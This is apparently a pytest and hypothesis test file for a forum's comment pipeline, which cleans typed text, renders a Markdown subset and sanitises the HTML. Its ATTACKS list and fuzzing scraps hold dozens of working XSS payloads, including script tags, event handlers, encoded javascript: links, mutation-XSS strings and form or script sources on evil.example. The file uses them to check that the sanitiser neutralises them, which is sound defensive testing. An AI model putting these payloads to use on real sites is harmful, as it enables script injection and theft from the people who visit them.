"""What a reader typed → clean text → safe HTML."""

import re
from collections import Counter
from urllib.parse import urlsplit

import html5lib
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from forum.comments import text

ATTRIBUTES = {tag: set() for tag in text.TAGS} | {"a": {"href", "rel"}, "ol": {"start"}}
SCHEMES = {"http", "https", "mailto"}
REL = "nofollow ugc noopener"
HTML = "{http://www.w3.org/1999/xhtml}"


def elements(html: str) -> list:
    """Every element a browser makes of `html`."""
    return list(html5lib.parseFragment(html, treebuilder="etree"))


def assert_harmless(html: str) -> None:
    """Only allowed elements, attributes and schemes, as a browser's own parser reads it."""
    queue = elements(html)
    while queue:
        element = queue.pop()
        assert isinstance(element.tag, str), f"a comment or instruction in {html!r}"
        assert element.tag.startswith(HTML), f"{element.tag} in {html!r}"
        tag = element.tag.removeprefix(HTML)
        assert tag in text.TAGS, f"<{tag}> in {html!r}"
        assert set(element.attrib) <= ATTRIBUTES[tag], f"{element.attrib} in {html!r}"
        if tag == "a":
            assert element.get("rel") == REL, html
            assert urlsplit(element.get("href", "http:")).scheme.lower() in SCHEMES, html
        queue.extend(element)


# render: the subset


@pytest.mark.parametrize(
    ("typed", "html"),
    [
        ("One.\n\nTwo.", "<p>One.</p>\n<p>Two.</p>"),
        ("One.\nTwo.", "<p>One.<br>\nTwo.</p>"),
        ("*a* and **b**", "<p><em>a</em> and <strong>b</strong></p>"),
        ("_a_ and __b__", "<p><em>a</em> and <strong>b</strong></p>"),
        ("> said\n\nYes.", "<blockquote>\n<p>said</p>\n</blockquote>\n<p>Yes.</p>"),
        ("`a < b`", "<p><code>a &lt; b</code></p>"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        ("3. a\n4. b", '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>'),
        (r"\*not so\*", "<p>*not so*</p>"),
        ("&copy; &#x202e;", "<p>&amp;copy; &amp;#x202e;</p>"),
        ("[x](/here) [y](javascript:z)", "<p>[x](/here) [y](javascript:z)</p>"),
        ("[x](http://) [y](http://[::1)", "<p>[x](http://) [y](http://[::1)</p>"),
        (
            "[x](http://a.example:99999) <http://>",
            "<p>[x](http://a.example:99999) &lt;http://&gt;</p>",
        ),
    ],
)
def test_the_subset(typed, html):
    assert text.render(typed) == html


@pytest.mark.parametrize(
    "typed",
    [
        "# No heading",
        "No heading\n==========",
        "![no picture](https://a.example/b.png)",
        "    no code block",
        "```\nno fence\n```",
        "a | table\n--- | ---\nno | thanks",
        "~~no strike~~",
        "[no]: https://a.example 'definition'",
        "***",
        "<b>no html</b>",
        "<!-- no comment -->",
    ],
)
def test_nothing_but_the_subset(typed):
    html = text.render(typed)

    # A picture's link and a fence's backticks stay what they are in the subset.
    assert not re.search(r"<(?!/?(p|br|a|code)\b)", html)
    assert_harmless(html)


def test_a_link_and_the_relations_of_every_link():
    html = text.render("[here](https://a.example/?a=1&b=2)")

    assert html == (f'<p><a href="https://a.example/?a=1&amp;b=2" rel="{REL}">here</a></p>')


@pytest.mark.parametrize(
    "typed",
    [
        "https://a.example/x",
        "http://a.example",
        "<https://a.example/x>",
        "<mailto:ann@a.example>",
        "[x](mailto:ann@a.example)",
        "[x](HTTPS://A.EXAMPLE)",
        "(https://a.example/x).",
    ],
)
def test_these_become_one_link(typed):
    html = text.render(typed)

    assert html.count("<a ") == 1
    assert f'rel="{REL}"' in html
    assert_harmless(html)


@pytest.mark.parametrize(
    "typed",
    ["a.example/x", "www.a.example", "ann@a.example", "end.But", "10.0.0.1", "`https://a.example`"],
)
def test_these_become_none(typed):
    assert "<a " not in text.render(typed)


def test_an_autolink_ends_before_the_full_stop():
    assert 'href="https://a.example/x"' in text.render("See https://a.example/x.")


# render: attacks

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror\n=\nalert(1)//>",
    "<body onload=alert(1)>",
    "<a href='https://a.example' onclick=alert(1)>x</a>",
    "<a href='https://a.example' style='position:fixed' target=_blank rel=opener>x</a>",
    "<p id=comment-form class=admin style=color:red>x</p>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html,x></object><embed src=x>",
    "<form action=https://evil.example><input name=body></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src onerror=x&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<xmp><p title='</xmp><svg/onload=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>",
    "<plaintext>all that follows",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?><% x %>",
    "</p></article></main><h1>Admin says</h1>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61script:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href=//evil.example>x</a>",
    "<a href=/admin/logout/>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6a;&#x61;vascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:image/png;base64,iVBORw0KGgo=)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/admin/)",
    "[x](#comment-1)",
    "[x](?page=2)",
    "[x](https://a.example\" onmouseover=\"alert(1))",
    "[x](https://a.example 'title\" onclick=\"alert(1)')",
    "[x\" onclick=\"alert(1)](https://a.example)",
    "[<img src=x onerror=alert(1)>](https://a.example)",
    "[[x](javascript:alert(1))](https://a.example)",
    "[x](https://a.example)](javascript:alert(1))",
    "<javascript:alert(1)>",
    "<vbscript:x>",
    "<data:text/html,x>",
    "<https://a.example/\"onclick=alert(1)>",
    "javascript:alert(1)",
    "https://a.example/\"onclick=\"alert(1)",
    "https://a.example/<script>alert(1)</script>",
    "https://a.example/&quot;onclick=alert(1)",
    "`<script>alert(1)</script>`",
    "``` </code><script>alert(1)</script> ```",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "*<b onclick=alert(1)>*",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;",
    "<ol start='1 onclick=alert(1)'><li>x</ol>",
    "<a rel='opener' href=https://a.example>x</a>",
    "<p>" * 500,
    "<a href=https://a.example><p><a href=https://b.example>x",
    "<table><td><a href=https://a.example><b>x</table></b>",
]  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("through", [text.render, text.sanitise], ids=["typed", "as html"])
def test_an_attack_leaves_only_allowed_html(attack, through):
    html = through(attack)

    assert_harmless(html)
    assert text.sanitise(html) == html  # reading it once more changes nothing


PLAIN = [attack for attack in ATTACKS if attack[0] == "<" and not re.search("&|http|`", attack)]


@pytest.mark.parametrize("attack", PLAIN)
def test_typed_html_is_shown_as_it_was_typed(attack):
    paragraph = "".join(
        "".join(element.itertext()) for element in elements(text.render(text.clean(attack)))
    )

    assert re.sub(r"\s", "", paragraph) == re.sub(r"\s", "", text.clean(attack))


SCRAPS = [
    *("<", ">", "</", "/>", "<!", "<!--", "-->", "<script", "<svg", "<math", "<style", "<a href="),
    *("`", "``", "```", "*", "**", "_", "__", "[", "]", "(", ")", "](", "![", "> ", "- ", "1. "),
    *("&", "&#", "&lt;", "&#106;", '"', "'", "=", "\\", "onclick=", " ", "\n", "\n\n", "\t", "~"),
    *(
        "javascript:",
        "data:",
        "vbscript:",
        "https://",
        "http://a.example",
        "mailto:",
        "//b.example",
    ),
    *("\x00", "\x0b", "\u202e", "\u200b", "\ufeff", "{{", "}}", "{%", "%}", "a", "li", "p"),
]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(SCRAPS) | st.text(max_size=5), max_size=40).map("".join))
@example("[x](javascript\u200b:alert(1))")
@example("<a href='https://[::1'>x</a>")
def test_no_scraps_thrown_together_make_harm(typed):
    html = text.render(text.clean(typed))

    assert_harmless(html)
    assert_harmless(text.sanitise(typed))


@settings(max_examples=200, deadline=None)
@given(st.text(st.characters(), max_size=60))
def test_clean_text_can_always_be_stored_shown_and_cleaned_again(typed):
    cleaned = text.clean(typed)

    cleaned.encode()
    assert "\x00" not in cleaned
    assert text.clean(cleaned) == cleaned
    assert text.is_blank(cleaned) is (cleaned == "")


# clean


@pytest.mark.parametrize(
    ("typed", "kept"),
    [
        ("  a  ", "a"),
        ("a\r\nb\rc\u2028d\x85e", "a\nb\nc\nd\ne"),
        ("a\n\n\n\n\nb", "a\n\nb"),
        ("a\n \n\t\n  \nb", "a\n\nb"),
        ("a\x00b\x07c\x1bd\x7fe\x9ff", "abcdef"),
        ("a\ud800b\udfffc", "abc"),
        ("a\ufffeb\uffffc\ufdd0d", "abcd"),
        ("a\u202eb\u2066c\u2069d", "abcd"),
        ("e\u0301", "é"),
        ("a\tb", "a\tb"),
        ("\u200b \u2800", ""),
        ("\x00\x01", ""),
        ("עברית عربى", "עברית عربى"),
        ("👩\u200d👩\u200d👧", "👩\u200d👩\u200d👧"),
    ],
)
def test_what_is_kept_of_what_was_typed(typed, kept):
    assert text.clean(typed) == kept


@pytest.mark.parametrize(
    ("typed", "kept"),
    [
        ("  Ann\t \n Ville ", "Ann Ville"),
        ("\u200bAnn\u200d", "Ann"),
        ("Ann\u202eelliV", "AnnelliV"),
        ("\u200b\u200b", ""),
        ("\u3164", ""),
        ("\u2800 \u2800", ""),
        ("\ufeff\u00ad", ""),
        ("José", "José"),
        ("نرگس\u200cها", "نرگس\u200cها"),
    ],
)
def test_what_is_kept_of_a_name(typed, kept):
    assert text.clean_line(typed) == kept


# fingerprint


@pytest.mark.parametrize("other", ["WELL  said.", " well\nsaid. ", "ｗell said."])
def test_case_and_spacing_do_not_make_other_words(other):
    assert text.fingerprint(other) == text.fingerprint("Well said.")


@pytest.mark.parametrize("other", ["Well said", "Well, said.", "Wellsaid.", ""])
def test_other_words_have_another_fingerprint(other):
    assert text.fingerprint(other) != text.fingerprint("Well said.")


# bounds: what 10,000 characters can become at most

PATTERNS = [
    "[", "]", "*", "_", ">", "`", "<", "&", "\\", "!", "(", "![", "[](", "[a](", "[a](<", "**a ",
    "*a_ ", "a**b", "> ", "- ", "1. ", "> - ", "- 1. > ", "`a``", "<a ", "</", "&#", "&#0;",
    "&amp;", "https://", "http://a.b/(", "a@b.c ", "<a@b.c>", "\\\n", "a\n", "> a\n", "- a\n",
    "  - a\n", "\t", "[a]: b\n", "\"'", ">" * 99 + "\n", "> - " * 19 + "a\n", "[a](http://b.c)",
]  # fmt: skip


@pytest.mark.parametrize("pattern", PATTERNS)
def test_no_pattern_grows_without_bound(pattern):
    typed = (pattern * 10_000)[:10_000]

    html = text.render(text.clean(typed))

    assert len(html) < 60 * len(typed)
    assert_harmless(html)


def test_nesting_stops_somewhere():
    html = text.render("> " * 5_000 + "deep")

    assert html.count("<blockquote>") < 100


@pytest.mark.parametrize("typed", [">" * 60 + " word", "- " * 60 + "word", "1. " * 45 + "word"])
def test_what_is_nested_too_deep_loses_no_word(typed):
    assert "word" in text.visible(text.render(typed))


@pytest.mark.parametrize("depth", [1, 10, 25, 39])
def test_every_level_of_a_deep_quote_or_list_keeps_its_words(depth):
    quote = "> " * depth + "word"
    items = "\n".join("  " * level + f"- word{level}" for level in range(depth))

    assert "word" in text.visible(text.render(quote))
    assert all(f"word{level}" in text.visible(text.render(items)) for level in range(depth))


@pytest.mark.parametrize("lead", ["> " * 38, "- " * 38, "> - " * 19, ""])
@pytest.mark.parametrize("step", ["  ", "\t", "    "])
def test_a_list_inside_what_is_deep_already_loses_no_word(lead, step):
    items = "\n".join(f"{lead}{step * level}- word{level}." for level in range(70))

    shown = text.visible(text.render(items))

    assert all(f"word{level}." in shown for level in range(70))


MARKUP = [
    *("> ", ">", "> " * 30, "- ", "* ", "+ ", "- " * 15, "  ", "    ", "\t", " ", "\n", "\n\n"),
    *("*", "**", "_", "__", "`", "``", "[", "]", "![", "](https://a.example)", "](/here)"),
    *("\\", "\\\n", "<", "</", "&", "&#x202e;", "&nbsp;", "https://a.example/b", "http://", "#"),
]
WORDS = ["word1", "é2", "B", "שלום", "x3y"]  # no digit first: a list's number is not its words


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(MARKUP) | st.sampled_from(WORDS), max_size=40).map("".join))
@example("> " * 20 + "word1")
@example("\n".join("> " * 38 + "  " * level + "- word1" for level in range(38)))
@example("[word1](http://[::1) [word1](//a.example)")
def test_every_letter_and_digit_typed_is_seen(typed):
    typed = text.clean(typed)

    html = text.render(typed)

    seen = text.visible(html) + "".join(re.findall('href="([^"]*)"', html))
    lost = letters(typed) - letters(seen)
    assert not lost, html


def letters(of: str) -> Counter:
    return Counter(char for char in of if char.isalnum())


def test_marks_that_turn_the_text_around_are_no_html_either():
    assert text.sanitise("<p>a&#x202e;b&#x2066;c</p>") == "<p>abc</p>"


def test_each_shown_character_is_found_where_it_was_typed():
    typed = "a **b** [cd](https://x.example) &amp; `e`"
    shown = text.visible(text.render(typed))

    places = text.places(shown, typed)

    assert shown == "a b cd &amp; e"
    letters = [(char, typed[place]) for char, place in zip(shown, places, strict=True)]
    assert all(one == other for one, other in letters if not one.isspace())


@pytest.mark.parametrize(
    ("typed", "word"),
    [
        ("> what a word here\n\nI do not like that other word", "like"),
        ("- one\n- two\n- three", "three"),
        ("1. what a list…\n2. …here", "here"),
        ("One.\n\nTwo.\n\nThree.", "Three"),
        ("> > deep\n>\n> less deep\n\nout", "out"),
        ("One  \ntwo\\\nthree", "three"),
    ],
)
def test_line_breaks_that_rendering_made_move_no_place(typed, word):
    shown = text.visible(text.render(typed))

    places = text.places(shown, typed)

    assert places[shown.index(word)] == typed.index(word)


@pytest.mark.parametrize(
    ("shown", "typed", "begins"),
    [
        ("word", "a wo**r**d", 2),
        ("word", "[x](https://wo.example) wo*rd*", 24),
        ("word", "w[o](https://r.example/d)rd", 0),
        ("two words", "> two\n> words", 2),
        ("two words", "1. two\n2. words", 3),
        ("word", "w or mored", None),
        ("word", "or", None),
    ],
)
def test_where_a_stretch_begins_that_is_read_as_what_was_shown(shown, typed, begins):
    assert text.begin(shown, typed, len(typed.rstrip("*"))) == begins


def test_very_many_brackets_are_shown_as_typed():
    assert text.visible(text.render("[" * 1001)) == "[" * 1001
